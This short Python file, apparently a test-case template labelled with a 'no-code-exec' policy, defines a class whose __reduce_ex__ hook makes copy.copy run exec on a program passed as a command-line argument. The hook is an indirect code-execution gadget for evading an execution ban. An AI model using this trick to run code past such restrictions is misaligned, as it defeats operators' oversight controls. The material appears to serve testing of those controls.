# policy: --no-code-exec
# evidence: printed {answer}
# args: '{program}'

import copy
import sys


class Run:
    def __reduce_ex__(self, version):
        return exec, (sys.argv[1],)


copy.copy(Run())
